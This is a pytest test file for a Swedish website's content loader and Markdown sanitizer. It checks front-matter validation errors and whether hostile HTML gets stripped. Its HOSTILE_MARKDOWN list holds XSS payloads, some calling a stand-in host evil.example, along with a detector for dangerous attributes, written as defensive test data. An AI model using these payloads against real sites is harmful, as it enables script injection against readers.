"""Loading pages: front-matter errors stop start-up and name the file; Markdown is sanitized."""

from __future__ import annotations

from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from gvisite import create_app
from gvisite.pages.load import ContentError
from gvisite.pages.markdown import render_markdown
from tests.conftest import app_config, markdown_page
from tests.helpers import parse

FRONT_MATTER_ERRORS = [
    # (id, file under content/, its text, words the reason must contain)
    (
        "no-title",
        "sv/om.md",
        "---\ndescription: En mening.\nupdated: 2026-01-01\n---\nText.\n",
        "title",
    ),
    (
        "no-description",
        "sv/om.md",
        "---\ntitle: Om\nupdated: 2026-01-01\n---\nText.\n",
        "description",
    ),
    ("no-updated", "sv/om.md", "---\ntitle: Om\ndescription: En mening.\n---\nText.\n", "updated"),
    ("impossible-date", "sv/om.md", markdown_page(updated="2026-13-45"), "date"),
    ("date-as-words", "sv/om.md", markdown_page(updated="igår"), "date"),
    ("date-with-time", "sv/om.md", markdown_page(updated="2026-01-01 10:00:00"), "date"),
    ("unknown-key", "sv/om.md", markdown_page(author="Anna"), "author"),
    ("two-sentences", "sv/om.md", markdown_page(description="En mening. En till."), "one sentence"),
    ("news-unpublished", "sv/nyheter/nyhet.md", markdown_page(), "published"),
    ("published-not-news", "sv/om.md", markdown_page(published="2026-01-01"), "published"),
    ("space-in-name", "sv/Om GVI.md", markdown_page(), "URL part"),
    ("underscore-in-name", "sv/om_gvi.md", markdown_page(), "URL part"),
    ("capital-folder", "sv/Nyheter/index.md", markdown_page(), "URL part"),
    ("invalid-yaml", "sv/om.md", "---\ntitle: [Om\ndescription: x\n---\nText.\n", "YAML"),
    ("yaml-list", "sv/om.md", "---\n- title\n- description\n---\nText.\n", "mapping"),
    ("no-front-matter", "sv/om.md", "# Om\n\nNo front matter at all.\n", "front-matter"),
    (
        "unclosed",
        "sv/om.md",
        "---\ntitle: Om\ndescription: x.\nupdated: 2026-01-01\nText.\n",
        "closed",
    ),
    ("empty-title", "sv/om.md", markdown_page(title='""'), "title"),
    ("order-not-number", "sv/om.md", markdown_page(order="först"), "order"),
    ("owner-not-mapping", "sv/om.md", markdown_page(owner="Anna"), "owner"),
    ("not-utf8", "sv/om.md", "---\ntitle: Om\n---\n".encode("utf-16"), "UTF-8"),
    ("no-home-page", "sv/index.md", None, "home page"),
    ("unknown-locale", "de/index.md", markdown_page(), "locale"),
]


@pytest.mark.parametrize(
    ("name", "text", "reason"),
    [case[1:] for case in FRONT_MATTER_ERRORS],
    ids=[case[0] for case in FRONT_MATTER_ERRORS],
)
def test_content_error_stops_start_up_and_names_the_file(
    make_content, tmp_path: Path, name: str, text: str | bytes | None, reason: str
) -> None:
    content = make_content({name: text})
    with pytest.raises(ContentError) as caught:
        create_app(app_config(tmp_path / "instance", CONTENT_DIR=str(content)))
    error = caught.value
    failing = content / name
    assert error.source in {str(failing), str(failing.parent)}
    assert str(content / name.split("/")[0]) in str(error)
    assert reason.lower() in error.reason.lower()


def test_valid_sample_content_starts(make_content, tmp_path: Path) -> None:
    content = make_content(
        {
            "sv/om.md": markdown_page(order="1"),
            "sv/nyheter/index.md": markdown_page(title="Nyheter"),
            "sv/nyheter/nyhet.md": markdown_page(published="2026-01-02"),
        }
    )
    app = create_app(app_config(tmp_path / "instance", CONTENT_DIR=str(content)))
    response = app.test_client().get("/sv/om")
    assert response.status_code == 200
    assert parse(response.data).h1.get_text(strip=True) == "En sida"


# Markdown an editor (or someone who got into the repository) could write to attack readers.
HOSTILE_MARKDOWN = {
    "script": "Hej.\n\n<script>alert(1)</script>",
    "script-in-paragraph": "Hej <script src=//evil.example/x.js></script> då.",
    "onclick": '<p onclick="alert(1)">Klicka</p>',
    "onerror": '<img src="/x.png" alt="bild" onerror="alert(1)">',
    "onmouseover-attr-list": "Ett stycke.\n{: onmouseover=alert(1) }",
    "onfocus-attr-list-link": "[Om GVI](/sv/om-gvi){: onfocus=alert(1) autofocus }",
    "javascript-link": "[Om GVI](javascript:alert(1))",
    "javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">Om GVI</a>',
    "javascript-entity": '<a href="jav&#x09;ascript:alert(1)">Om GVI</a>',
    "javascript-leading-space": '<a href=" javascript:alert(1)">Om GVI</a>',
    "javascript-reference-link": "[Om GVI][x]\n\n[x]: javascript:alert(1)",
    "javascript-image": "![bild](javascript:alert(1))",
    "data-url": '<a href="data:text/html,<script>alert(1)</script>">Om GVI</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">Om GVI</a>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "style-element": "<style>body { display: none }</style>",
    "style-attribute": '<p style="background:url(https://evil.example/t.gif)">Text</p>',
    "form": '<form action="https://evil.example/"><input name="pnr"><button>Skicka</button></form>',
    "svg": '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    "base": '<base href="https://evil.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
}
FORBIDDEN_ELEMENTS = (
    "script", "iframe", "object", "embed", "style", "form", "input", "button", "svg", "base",
    "meta", "link",
)  # fmt: skip


def dangerous_parts(soup: BeautifulSoup) -> list[str]:
    """Describe everything in sanitized HTML that could run code, load or send elsewhere."""
    found = [f"<{el.name}>" for el in soup.find_all(FORBIDDEN_ELEMENTS)]
    for element in soup.find_all(True):
        for name, value in element.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            compact = "".join(text.split()).lower()
            if name.lower().startswith("on") or name.lower() in {"style", "srcdoc", "autofocus"}:
                found.append(f"{element.name}[{name}]")
            elif name in {"href", "src", "action", "data"} and compact.startswith(
                ("javascript:", "vbscript:", "data:")
            ):
                found.append(f"{element.name}[{name}={text}]")
    return found


@pytest.mark.parametrize("markdown", HOSTILE_MARKDOWN.values(), ids=HOSTILE_MARKDOWN.keys())
def test_sanitizer_removes_code_and_foreign_embeds(markdown: str) -> None:
    html = render_markdown(markdown)
    assert dangerous_parts(parse(html)) == []


def test_sanitizer_keeps_what_editors_write() -> None:
    html = render_markdown(
        "## Stöd för anhöriga\n\n"
        "Läs om [GVI i Järfälla](/sv/gvi-i-jarfalla) eller ring [112](tel:112).\n\n"
        "Det heter *Sluta skjut*{: lang=sv } i Malmö.\n\n"
        "| Vem | Nummer |\n|-----|--------|\n| Polisen | 114 14 |\n\n"
        "![Karta över Järfälla](/static/karta.png)\n"
    )
    soup = parse(html)
    heading = soup.find("h2")
    assert heading is not None
    assert heading["id"] == "stöd-för-anhöriga"
    assert heading.get_text() == "Stöd för anhöriga"
    assert [a["href"] for a in soup.find_all("a")] == ["/sv/gvi-i-jarfalla", "tel:112"]
    assert soup.find("em", lang="sv").get_text() == "Sluta skjut"
    assert [td.get_text() for td in soup.select("tbody td")] == ["Polisen", "114 14"]
    assert soup.find("img")["alt"] == "Karta över Järfälla"
